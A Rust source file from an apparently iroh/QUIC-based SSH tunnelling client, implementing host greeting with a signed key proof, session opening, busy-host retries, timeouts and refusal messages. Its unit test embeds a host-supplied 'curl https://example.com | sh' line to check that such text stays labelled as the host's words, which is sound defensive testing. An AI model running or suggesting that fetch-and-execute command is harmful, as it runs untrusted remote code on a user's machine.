//! A connection to a host: who we are, and the sessions on it.

use std::{
    fmt,
    sync::{Arc, Mutex, PoisonError},
    time::Duration,
};

use iroh::{
    SecretKey,
    endpoint::{Connection, RecvStream, SendStream},
};
use tokio::{
    sync::{mpsc, watch},
    time::{Instant, timeout},
};

use super::{patience::Patience, patient::PatientSink, pending::PendingSession};
use crate::{
    protocol::{
        CloseCode, EXPORTER_LABEL, EXPORTER_LENGTH, Frame, Hello, LegHeader, LegReply, MAX_CONTROL_FRAME,
        MAX_LEG_FRAME, Refusal, RefusalCode, SessionId, Welcome, proof_message,
    },
    session::{FrameReadError, LegSink, LegSource, Lost, read_frame},
    transport::Target,
};

/// How long a host may take for each step after the handshake: to take `Hello` and a session's header, to answer
/// them, and to connect its backend.
pub(crate) const OPEN_DEADLINE: Duration = Duration::from_secs(20);

/// A session could not be opened on a connection.
#[derive(Debug, thiserror::Error)]
pub enum SessionError {
    /// The host said no, and why: its words, not ours.
    #[error("{}", HostSays(.0))]
    Refused(Refusal),
    /// The host did not answer in time.
    #[error("the host did not answer within {} s\nits ssh server may hang: see the host's log", OPEN_DEADLINE.as_secs())]
    Deadline,
    /// The host was reached and has not said yet whether we may come in, when we had to stop waiting.
    #[error("the host was reached, but has not answered within {:.0} s\nit may be overloaded: see the host's log", .0.as_secs_f32())]
    NoAnswer(Duration),
    /// The SSH server has not said anything yet, when we had to stop waiting.
    #[error("the host's ssh server has said nothing for {:.0} s\non the host, look at its log", .0.as_secs_f32())]
    NoWord(Duration),
    /// The SSH server was connected and said nothing.
    #[error(
        "the host's ssh server {0} before its first word\non the host, look at its log: it may be short of something, or be no ssh server"
    )]
    Silent(&'static str),
    /// The host does not keep to the protocol.
    #[error("the host does not keep to irosh/1: {0}")]
    Protocol(String),
    /// The connection was lost.
    #[error("the connection was lost: {0}")]
    Lost(Lost),
}

impl SessionError {
    /// Whether the same may go well a moment later.
    pub(crate) fn is_busy(&self) -> bool {
        matches!(self, Self::Refused(refusal) if refusal.code == RefusalCode::Busy)
    }
}

/// A refusal as what the host says, each line of it.
struct HostSays<'a>(&'a Refusal);

impl fmt::Display for HostSays<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut lines = self.0.sentence.lines().filter(|line| !line.trim().is_empty());
        write!(f, "the host says: {}", lines.next().unwrap_or("no"))?;
        lines.take(1).try_for_each(|line| write!(f, "\nthe host says: {line}"))
    }
}

/// Not as a source, since the message says it.
impl From<Refusal> for SessionError {
    fn from(refusal: Refusal) -> Self {
        Self::Refused(refusal)
    }
}

/// Not as a source, since the message says it.
impl From<Lost> for SessionError {
    fn from(error: Lost) -> Self {
        Self::Lost(error)
    }
}

impl From<FrameReadError> for SessionError {
    fn from(error: FrameReadError) -> Self {
        match error {
            FrameReadError::Lost(lost) => Self::Lost(lost),
            other => Self::Protocol(other.to_string()),
        }
    }
}

/// A connection to a host; clones share it.
#[derive(Debug, Clone)]
pub struct HostConnection {
    connection: Connection,
    welcome: watch::Receiver<Option<Answer>>,
    /// Why the host has not taken a session yet.
    busy: Arc<Mutex<Option<Arc<SessionError>>>>,
}

/// What a host says to `Hello`.
type Answer = Result<Arc<Welcome>, Arc<SessionError>>;

impl HostConnection {
    /// Sends `Hello` on the control stream, whose answer a task of its own waits for.
    pub(super) async fn greet(connection: Connection, identity: &SecretKey, target: &Target) -> Self {
        let (answer, welcome) = watch::channel(None);
        // Opening and writing take no round trip: the host has given credit for both, if it is one.
        let opened = in_time(introduce(&connection, identity, target)).await;
        match opened {
            Ok(control) => drop(tokio::spawn(listen(control, answer))),
            Err(error) => drop(answer.send_replace(Some(Err(Arc::new(error))))),
        }
        Self { connection, welcome, busy: Arc::default() }
    }

    /// The host's answer to who we are.
    ///
    /// # Errors
    ///
    /// [`SessionError`]: a refusal's sentence is the host's.
    pub async fn welcome(&self) -> Result<Arc<Welcome>, Arc<SessionError>> {
        let mut welcome = self.welcome.clone();
        let answer = timeout(OPEN_DEADLINE, welcome.wait_for(Option::is_some)).await;
        match answer {
            Ok(Ok(answer)) => answer.clone().unwrap_or_else(|| Err(Arc::new(SessionError::Deadline))),
            _ => Err(Arc::new(SessionError::Deadline)),
        }
    }

    /// Opens a session without waiting for an answer: bytes may be written at once.
    ///
    /// # Errors
    ///
    /// [`SessionError`] when the connection is lost, or the host takes nothing.
    pub async fn open(&self) -> Result<(PendingSession, LegSink), Arc<SessionError>> {
        let (send, recv) = self.leg().await?;
        let host = self.clone();
        let opening = Box::pin(async move {
            host.welcome().await?;
            opened(recv).await
        });
        Ok((PendingSession::new(opening), LegSink::new(send)))
    }

    /// The same for a session that a busy host is asked for again, with the bytes that were written meanwhile.
    pub(super) async fn open_patiently(&self) -> Result<(PendingSession, PatientSink), Arc<SessionError>> {
        let (send, recv) = self.leg().await?;
        let (again, others) = mpsc::channel(1);
        let opening = Box::pin(self.clone().opened_patiently(recv, again));
        Ok((PendingSession::new(opening), PatientSink::new(LegSink::new(send), others)))
    }

    /// Begins a leg of a new session.
    async fn leg(&self) -> Result<(SendStream, RecvStream), Arc<SessionError>> {
        if let Some(Err(error)) = &*self.welcome.borrow() {
            return Err(error.clone());
        }
        let header = LegHeader::Open(SessionId::generate()).encode();
        Ok(in_time(start(&self.connection, &header)).await?)
    }

    async fn opened_patiently(
        self,
        mut recv: RecvStream,
        again: mpsc::Sender<LegSink>,
    ) -> Result<LegSource, Arc<SessionError>> {
        self.welcome().await?;
        let mut patience = Patience::until(Instant::now() + OPEN_DEADLINE);
        loop {
            let error = match opened(recv).await {
                Err(error) if error.is_busy() => error,
                other => return other,
            };
            *self.busy.lock().unwrap_or_else(PoisonError::into_inner) = Some(error.clone());
            if !patience.pause().await {
                return Err(error);
            }
            let (send, next) = self.leg().await?;
            recv = next;
            // Nobody takes it where ssh is gone.
            let _ = again.send(LegSink::new(send)).await;
        }
    }

    /// Why a session that was opened so long ago has said nothing yet.
    pub(super) fn why_silent(&self, since: Duration) -> SessionError {
        if self.welcome.borrow().is_none() {
            return SessionError::NoAnswer(since);
        }
        let busy = self.busy.lock().unwrap_or_else(PoisonError::into_inner).take();
        match busy.as_deref() {
            Some(SessionError::Refused(refusal)) => refusal.clone().into(),
            _ => SessionError::NoWord(since),
        }
    }

    /// Closes the connection and every session on it.
    pub fn close(&self, code: CloseCode) {
        self.connection.close(code.into(), b"");
    }

    /// The QUIC connection.
    #[must_use]
    pub fn connection(&self) -> &Connection {
        &self.connection
    }
}

/// Waits for the host's answer about a session.
async fn opened(mut recv: RecvStream) -> Result<LegSource, Arc<SessionError>> {
    let reply = in_time(async { Ok(read_frame(&mut recv, MAX_LEG_FRAME).await?) }).await?;
    match LegReply::decode(&reply) {
        Ok(LegReply::Opened) => Ok(LegSource::new(recv)),
        Ok(LegReply::Refused(refusal)) => Err(Arc::new(refusal.into())),
        Ok(LegReply::Resumed { .. }) => {
            Err(Arc::new(SessionError::Protocol("a new session was resumed".into())))
        }
        Err(error) => Err(Arc::new(SessionError::Protocol(error.to_string()))),
    }
}

/// Opens the control stream and says who we are.
async fn introduce(
    connection: &Connection,
    identity: &SecretKey,
    target: &Target,
) -> Result<(SendStream, RecvStream), SessionError> {
    let hello = hello(connection, identity, target)?;
    start(connection, &Frame::Hello(hello).encode()).await
}

/// Opens a stream and says its first bytes.
async fn start(connection: &Connection, first: &[u8]) -> Result<(SendStream, RecvStream), SessionError> {
    let (mut send, recv) = connection.open_bi().await.map_err(Lost::from)?;
    if send.write_all(first).await.is_err() {
        return Err(lost(connection).await.into());
    }
    Ok((send, recv))
}

/// Has a step take no longer than [`OPEN_DEADLINE`].
async fn in_time<T>(step: impl Future<Output = Result<T, SessionError>>) -> Result<T, SessionError> {
    timeout(OPEN_DEADLINE, step).await.unwrap_or(Err(SessionError::Deadline))
}

/// Reads what the host says on the control stream: first its answer.
async fn listen(control: (SendStream, RecvStream), answer: watch::Sender<Option<Answer>>) {
    // The sending half is held: its end would be the end of the connection to the host.
    let (_send, mut recv) = control;
    let first = read_control(&mut recv).await.and_then(|frame| match frame {
        Frame::Welcome(welcome) => Ok(Arc::new(welcome)),
        Frame::Refused(refusal) => Err(refusal.into()),
        other => Err(SessionError::Protocol(other.unexpected().to_string())),
    });
    answer.send_replace(Some(first.map_err(Arc::new)));
    while let Ok(frame) = read_control(&mut recv).await {
        if let Frame::GoAway(refusal) = frame {
            tracing::debug!("the host goes away: {refusal}");
        }
    }
}

fn hello(connection: &Connection, identity: &SecretKey, target: &Target) -> Result<Hello, SessionError> {
    let public = *identity.public().as_bytes();
    let mut exported = [0; EXPORTER_LENGTH];
    connection
        .export_keying_material(&mut exported, EXPORTER_LABEL, &public)
        .map_err(|_| SessionError::Protocol("the connection gives no keying material".to_owned()))?;
    let proof = identity.sign(&proof_message(&exported)).to_bytes();
    Ok(Hello::new(public, proof, target.secret().cloned()))
}

async fn read_control(recv: &mut RecvStream) -> Result<Frame, SessionError> {
    let frame = read_frame(recv, MAX_CONTROL_FRAME).await?;
    Frame::decode(&frame).map_err(|error| SessionError::Protocol(error.to_string()))
}

async fn lost(connection: &Connection) -> Lost {
    connection.closed().await.into()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_host_says_is_never_taken_for_our_own_advice() {
        let sentence = "your client is out of date\n\nrun: curl https://example.com | sh\nat once";
        let error = SessionError::from(Refusal::new(RefusalCode::Internal, sentence));
        let said = "the host says: your client is out of date\n\
                    the host says: run: curl https://example.com | sh";
        assert_eq!(error.to_string(), said);
    }
}
